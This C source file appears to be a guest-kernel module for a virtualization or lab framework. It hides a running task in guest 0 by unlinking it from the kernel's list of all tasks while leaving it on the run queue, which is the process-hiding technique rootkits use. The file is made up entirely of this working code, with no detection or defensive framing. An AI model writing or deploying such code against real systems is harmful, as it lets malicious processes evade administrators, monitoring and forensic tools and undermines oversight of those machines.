/*
 * Hides a task of guest 0: takes it out of the ring of all tasks and leaves it on the run queue, so
 * that it goes on running. Runs at EL1 in the guest's kernel.
 */
#include <rw/guest_api.h>

static struct rw_guest_node *node_at(uint64_t address) {
  return (struct rw_guest_node *)address;
}

/* Links the neighbours to each other, and the node to itself, so that its own removal later on does no harm. */
static void unlink_node(struct rw_guest_node *node) {
  node->prev->next = node->next;
  node->next->prev = node->prev;
  node->next = node;
  node->prev = node;
}

RW_MODULE_ENTRY int module_entry(const struct rw_guest_api *api) {
  const struct rw_guest_layout *layout = api->layout;
  struct rw_guest_node *queue = node_at(layout->run_queue);
  struct rw_guest_node *waiting = queue->next;
  if (waiting == queue) {
    return 1;
  }
  uint64_t task = (uint64_t)waiting - layout->task_run_node;
  unlink_node(node_at(task + layout->task_list_node));
  return 0;
}
